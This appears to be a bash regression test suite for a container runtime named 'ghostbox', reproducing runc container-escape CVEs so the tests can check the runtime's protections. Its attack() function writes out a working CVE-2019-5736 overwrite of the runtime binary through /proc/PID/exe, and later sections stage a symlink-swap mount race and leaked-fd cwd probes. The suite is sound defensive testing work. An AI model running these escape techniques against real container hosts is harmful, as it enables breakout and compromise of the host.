#!/usr/bin/env bash
# Regression tests modelled on runc's CVEs:
#  - CVE-2019-5736: overwriting the runtime binary through /proc/PID/exe,
#    with and without a user namespace;
#  - CVE-2024-21626: a leaked host fd as process.cwd;
#  - CVE-2021-30465: mount destinations through symlinks, swapped in a race;
#  - /proc mask bypass through a symlinked /proc.
# Each protection is also switched off once to show the test would fail.
. "$(dirname "$0")/lib.sh"
require_root
. "$(dirname "$0")/runtime-lib.sh"

# Attack a copy of the runtime, so a successful attack cannot break the build.
mkdir -p "$T/bin"
cp "$GB_RUNTIME" "$T/bin/ghostbox-runtime"
GB_RUNTIME=$T/bin/ghostbox-runtime
sum() { sha256sum "$GB_RUNTIME" | cut -d' ' -f1; }
orig=$(sum)

B=$T/b
rt_bundle "$B"
# The image brings what the runtime binary needs to run (the real exploit's
# image did the same).
for f in $(ldd "$GB_RUNTIME" | grep -o '/[^ ]*'); do
        mkdir -p "$B/rootfs$(dirname "$f")"
        cp -L "$f" "$B/rootfs$f"
done
mkfifo "$B/rootfs/fifo"
chmod 666 "$B/rootfs/fifo"
base=$(jq -r '.linux.uidMappings[0].hostID' "$B/config.json")
rt_cfg "$B" 'c["root"]["readonly"] = False'
rt_args "$B" sleep 1000

# The attack: a process in the container executes the runtime binary through
# /proc/self/exe (runc exec of "/proc/self/exe"), blocks on a FIFO; the
# attacker keeps an fd on /proc/PID/exe, lets it exit, and reopens the fd
# for writing through /proc/self/fd.
attack() { # ID -> prints what the attacker saw
        local id=$1 i
        rt_bg exec --detach "$id" /proc/self/exe --log /fifo state nosuch
        rm -f "$B/rootfs/tmp/result"
        # Detached, so no runtime process is left running the binary (as
        # after "docker exec" returns).
        "$GB_RUNTIME" --root "$RT_ROOT" exec --detach "$id" sh -c '
                # The runtime exec above is started in the background: under
                # load it may not be running yet, so look for it a while.
                for try in $(seq 100); do
                        for p in /proc/[0-9]*; do [ "$(cat $p/comm 2>/dev/null)" = exe ] && P=${p#/proc/}; done
                        [ -n "$P" ] && break
                        sleep 0.05
                done
                [ -n "$P" ] || { echo "no-runtime-process"; echo done; exit 0; }
                exec 3</proc/$P/exe || { echo "open-exe-failed"; echo done; exit 0; }
                echo "magic=$(head -c 4 /proc/self/fd/3 | od -An -c | tr -d " ")"
                cat /fifo >/dev/null
                while [ -e /proc/$P/exe ]; do sleep 0.05; done
                echo PWNED >/proc/self/fd/3 && echo "overwrote-runtime"
                echo done' >"$B/rootfs/tmp/result" 2>&1 || true
        for i in $(seq 400); do grep -q '^done' "$B/rootfs/tmp/result" 2>/dev/null && break; sleep 0.05; done
        cat "$B/rootfs/tmp/result"
}

rt_bg run --detach --bundle "$B" u1
out=$(attack u1)
check_match "CVE-2019-5736 (userns): the container reached a runtime binary via /proc/PID/exe" "magic=177ELF" "$out"
check_match "CVE-2019-5736 (userns): reopening it for writing is denied" "Permission denied" "$out"
check_eq "CVE-2019-5736 (userns): the runtime binary is unchanged" "$orig" "$(sum)"
rt delete --force u1

# A binary the container's root could write (owned by a mapped UID) is
# detected and sealed...
chown "$base:$base" "$GB_RUNTIME"
orig=$(sum)
rt_bg run --detach --bundle "$B" u2
out=$(attack u2)
check_fails "a runtime binary owned by the mapped root is sealed automatically" grep -q overwrote-runtime <<<"$out"
check_eq "... and stays unchanged" "$orig" "$(sum)"
rt delete --force u2
# ...weakened (seal off too): the attack succeeds, so the test can fail.
export GB_TEST_UNSAFE_NO_EXE_SEAL=1
rt_bg run --detach --bundle "$B" u3
out=$(attack u3)
unset GB_TEST_UNSAFE_NO_EXE_SEAL
check_match "weakened (writable binary, seal off): the attack overwrites the runtime" "overwrote-runtime" "$out"
cp "$GB_BUILD/src/runtime/ghostbox-runtime" "$GB_RUNTIME"
chown 0:0 "$GB_RUNTIME"
rt delete --force u3
orig=$(sum)

# No user namespace: container root is host root; the sealed memfd copy of
# the runtime is what the container can reach.
rt_cfg "$B" 'c["linux"]["namespaces"] = [n for n in c["linux"]["namespaces"] if n["type"] != "user"]' \
        'del c["linux"]["uidMappings"]; del c["linux"]["gidMappings"]'
rt_bg create --bundle "$B" h0
h0=$(rt state h0)
h0_exe=$(readlink /proc/"$(jq -r .pid <<<"$h0")"/exe)
check_match "no userns: the init runs from a sealed memfd copy, not the host binary" "memfd:ghostbox-runtime" "$h0_exe"
[[ $h0_exe == *memfd* ]] || diag "state: $h0" "$(ls -l /proc/"$(jq -r .pid <<<"$h0")"/exe 2>&1)" "$(tail -5 "$T/container.out")"
rt delete --force h0
rt_bg run --detach --bundle "$B" h1
out=$(attack h1)
check_match "CVE-2019-5736 (no userns): the container reached the runtime via /proc/PID/exe" "magic=177ELF" "$out"
check_fails "CVE-2019-5736 (no userns): the overwrite fails" grep -q overwrote-runtime <<<"$out"
check_eq "CVE-2019-5736 (no userns): the runtime binary is unchanged" "$orig" "$(sum)"
rt delete --force h1
export GB_TEST_UNSAFE_NO_EXE_SEAL=1
rt_bg run --detach --bundle "$B" h2
out=$(attack h2)
unset GB_TEST_UNSAFE_NO_EXE_SEAL
check_match "weakened (seal off): the attack overwrites the runtime, so the test can fail" "overwrote-runtime" "$out"
check_fails "weakened: the binary really changed" test "$orig" = "$(sum)"
cp "$GB_BUILD/src/runtime/ghostbox-runtime" "$GB_RUNTIME"
rt delete --force h2

# CVE-2024-21626: process.cwd through a leaked fd.
B2=$T/b2
rt_bundle "$B2"
rt_args "$B2" sh -c 'pwd; ls /'
leaks=0
for n in 3 4 5 6 7 8 9; do
        rt_cfg "$B2" 'c["process"]["cwd"] = "/proc/self/fd/'$n'"'
        out=$( (cd "$B2" && rt run "fd$n" 7<"$T" 8<"$T/b2") 2>&1)
        grep -q "process.cwd" <<<"$out" || { leaks=$((leaks + 1)); diag "cwd fd $n: $out"; }
done
check_eq "CVE-2024-21626: no cwd of /proc/self/fd/N reaches a host directory" 0 "$leaks"

# CVE-2021-30465: mount destinations through symlinks (absolute and ..).
mkdir -p "$T/hostside"
rt_cfg "$B2" 'c["process"]["cwd"] = "/"'
ln -s / "$B2/rootfs/abs"
ln -s ../../../../../../../.. "$B2/rootfs/rel"
rt_cfg "$B2" '
c["mounts"] += [{"destination": "/abs'"$T"'/hostside/m1", "type": "tmpfs", "source": "tmpfs"},
                {"destination": "/rel'"$T"'/hostside/m2", "type": "tmpfs", "source": "tmpfs"}]'
rt_args "$B2" sh -c "grep -c '$T/hostside/m[12] ' /proc/self/mountinfo"
check_eq "symlinked mount destinations resolve inside the rootfs" 2 "$( (cd "$B2" && rt run sl1) 2>&1)"
check_eq "nothing was created on the host side" "" "$(ls -A "$T/hostside")"
check "the mount points were made inside the rootfs" test -d "$B2/rootfs$T/hostside/m1" -a -d "$B2/rootfs$T/hostside/m2"

# The race: swap a directory and a symlink to the host while containers mount on it.
rt_cfg "$B2" 'c["mounts"] = c["mounts"][:-2] + [{"destination": "/race/m", "type": "tmpfs", "source": "tmpfs"}]'
rt_args "$B2" true
mkdir -p "$B2/rootfs/race.d/m"
ln -s "../../../../../../../..$T/hostside" "$B2/rootfs/race.l"
(
        while [ -e "$T/swapping" ]; do
                mv -T "$B2/rootfs/race.d" "$B2/rootfs/race" 2>/dev/null
                mv -T "$B2/rootfs/race" "$B2/rootfs/race.d" 2>/dev/null
                mv -T "$B2/rootfs/race.l" "$B2/rootfs/race" 2>/dev/null
                mv -T "$B2/rootfs/race" "$B2/rootfs/race.l" 2>/dev/null
        done
) &
swapper=$!
touch "$T/swapping"
at_exit "rm -f '$T/swapping'; kill $swapper"
for i in $(seq 40); do (cd "$B2" && rt run "race$i" >/dev/null 2>&1); done
rm -f "$T/swapping"
wait $swapper 2>/dev/null
check_eq "CVE-2021-30465: 40 runs during symlink swaps created nothing on the host" "" "$(ls -A "$T/hostside")"
check_eq "... and left no mount on the host" 0 "$(grep -c "$T/hostside" /proc/self/mountinfo)"

# /proc mask bypass: /proc in the image is a symlink; the masks follow proc.
B3=$T/b3
rt_bundle "$B3"
rmdir "$B3/rootfs/proc"
mkdir "$B3/rootfs/elsewhere"
ln -s /elsewhere "$B3/rootfs/proc"
rt_args "$B3" sh -c 'wc -c </elsewhere/timer_list; wc -c </proc/timer_list'
check_eq "a symlinked /proc gets the masks too" "0 0" "$( (cd "$B3" && rt run p1) 2>&1 | tr '\n' ' ' | sed 's/ $//')"
done_testing
